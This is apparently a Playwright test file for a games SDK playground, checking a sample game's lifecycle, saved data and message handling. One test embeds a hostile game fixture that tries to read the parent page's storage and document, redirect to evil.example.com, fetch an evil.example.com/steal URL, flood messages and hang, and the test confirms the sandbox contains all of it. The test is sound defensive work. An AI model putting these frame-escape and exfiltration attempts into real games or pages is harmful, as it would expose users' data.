import { expect, type Page } from '@playwright/test';
import { zipSync } from 'fflate';
import shared from '../playwright.config';
import { machineTest as test } from '../fixtures/machine';
import { freePort } from '../fixtures/portal.process';
import { plainGame, startBareHost } from '../fixtures/wire.games';

const launch = shared.use?.launchOptions;
test.use({
  launchOptions: {
    ...launch,
    // Playwright turns off partitioned storage, without which Chromium refuses service workers in frames of another
    // site. The last such switch wins, and leaves it on as for users.
    args: [...(launch?.args ?? []), '--disable-features=TrackingProtection3pcd'],
  },
});

const path = '/games-sdk-integration-guide/playground';
const check = (page: Page, title: string) =>
  page.getByRole('list', { name: 'Checks' }).getByRole('listitem').filter({ hasText: title });
const state = (page: Page) => page.locator('[data-machine="gameHost"]');
const openFiles = async (page: Page, files: Record<string, string>) => {
  const entries = Object.entries(files).map(
    ([name, text]) => [name, new TextEncoder().encode(text)] as const,
  );
  await page.getByText('Your files', { exact: true }).click();
  await page.getByTestId('zip').setInputFiles({
    name: 'game.zip',
    mimeType: 'application/zip',
    buffer: Buffer.from(zipSync(Object.fromEntries(entries))),
  });
};

test('the sample game is played, paused, goes on and quits, and its data comes back after a reload', async ({
  page,
  machine,
}) => {
  await page.goto('/games-sdk-integration-guide');
  await page.getByRole('link', { name: 'Open the playground' }).click();
  await expect(state(page)).toHaveAttribute('data-state', 'playing');
  await expect(check(page, 'Reports that it has loaded')).toContainText('Passed');
  const canvas = page.frameLocator('iframe[title=Game]').locator('canvas');
  await canvas.click();
  await page.getByRole('button', { name: 'Pause', exact: true }).click();
  await expect(state(page)).toHaveAttribute('data-state', 'paused');
  await page.getByRole('button', { name: 'Resume' }).click();
  await expect(state(page)).toHaveAttribute('data-state', 'playing');
  await canvas.press('p');
  await expect(state(page)).toHaveAttribute('data-state', 'paused');
  await expect(check(page, 'Answers pause')).toContainText('Passed');
  await canvas.press('p');
  // Nobody moves the basket: the oranges are missed.
  await expect(state(page)).toHaveAttribute('data-state', 'over', { timeout: 40_000 });
  await expect(check(page, 'Saves data')).toContainText('Saved once');
  await page.getByRole('button', { name: 'Quit' }).click();
  await expect(state(page)).toHaveAttribute('data-state', 'closed');
  await expect(check(page, 'Answers quit')).toContainText('Passed');
  await machine('gameHost').visits('quitting');
  await page.reload();
  await page.getByText('Saved data', { exact: true }).click();
  await expect(page.getByText('"coins"')).toBeVisible();
});

test('a hostile game is contained: the page stays responsive, and the checks name what it did', async ({
  page,
}) => {
  await page.goto(path);
  await openFiles(page, {
    'index.html': `<!doctype html><head></head><body><script src="game.js"></script>`,
    'game.js': `
      const tell = (event_type, payload) => parent.postMessage({ event_type, payload }, '*');
      const tried = [];
      const attempt = (name, work) => { try { tried.push(name + ': ' + work()); } catch { tried.push(name + ': refused'); } };
      attempt('storage', () => parent.localStorage.length);
      attempt('document', () => parent.document.title);
      attempt('window', () => open('https://evil.example.com/') === null ? 'refused' : 'opened');
      attempt('top', () => { top.location.href = 'https://evil.example.com/'; return 'asked'; });
      fetch('https://evil.example.com/steal').then(() => tried.push('fetch: sent'), () => tried.push('fetch: refused')).then(() => {
        tell('GG_UPDATE_GAME_DATA', { data: tried });
        tell('GG_GAME_OVER', { score: Infinity });
        for (let sent = 0; sent < 1000; sent++) tell('GG_PAUSED_FROM_GAME');
        setTimeout(() => { for (;;); }, 100);
      });`,
  });
  await expect(check(page, 'A reasonable number of messages')).toContainText('Failed');
  await expect(check(page, 'Sends a score')).toContainText('Not a finite number');
  await expect(check(page, 'No request to another origin')).toContainText('https://evil.example.com/steal');
  // The game loops by now: its process does not answer, this page does.
  await page.getByText('Saved data', { exact: true }).click();
  const saved = await page.locator('pre').textContent();
  expect(JSON.parse(String(saved))).toEqual([
    'storage: refused',
    'document: refused',
    'window: refused',
    expect.stringMatching(/^top: /),
    'fetch: refused',
  ]);
  expect(new URL(page.url()).pathname).toBe(path);
  await page.getByRole('button', { name: 'Quit' }).click();
  await expect(state(page)).toHaveAttribute('data-state', 'closed');
  await page.getByText(/^Checks/).click();
  await expect(check(page, 'Answers quit')).toContainText('No answer');
});

test('a game that knows only the messages runs in the playground, and a game with the SDK in a host that knows only them', async ({
  page,
  baseURL,
}) => {
  await test.step('a plain game, which posts to the outermost page, passes', async () => {
    await page.goto(path);
    await openFiles(page, { 'index.html': plainGame });
    const game = page.frameLocator('iframe[title=Game]');
    await expect(game.getByText('Best 0')).toBeVisible();
    await game.getByRole('button', { name: 'Finish a round' }).click();
    await expect(check(page, 'Sends a score')).toContainText('Passed');
    await page.getByRole('button', { name: 'Restart' }).click();
    await expect(game.getByText('Best 5')).toBeVisible();
    await page.getByRole('button', { name: 'Quit' }).click();
    await expect(state(page)).toHaveAttribute('data-state', 'closed');
    await expect(check(page, 'Answers quit')).toContainText('Passed');
  });

  await test.step('a bare host gets the messages of a game with the SDK', async () => {
    const port = await freePort();
    const host = await startBareHost(baseURL as string, port);
    try {
      await page.goto(`http://localhost:${port}/`);
      await expect(page.getByRole('listitem')).toHaveText([
        'GG_GET_GAME_DATA {"defaultData":{"best":0}}',
        'GG_GAME_LOAD_FINISHED null',
      ]);
      await expect(page.frameLocator('iframe').getByText('unknown')).toBeVisible();
      await page.getByRole('button', { name: 'Quit' }).click();
      await expect(page.getByRole('listitem')).toHaveCount(4);
      await expect(page.getByRole('listitem').nth(2)).toHaveText('GG_GAME_OVER {"score":8}');
      await expect(page.getByRole('listitem').nth(3)).toHaveText('GG_UPDATE_GAME_DATA {"data":{"best":8}}');
    } finally {
      await host.close();
    }
  });
});
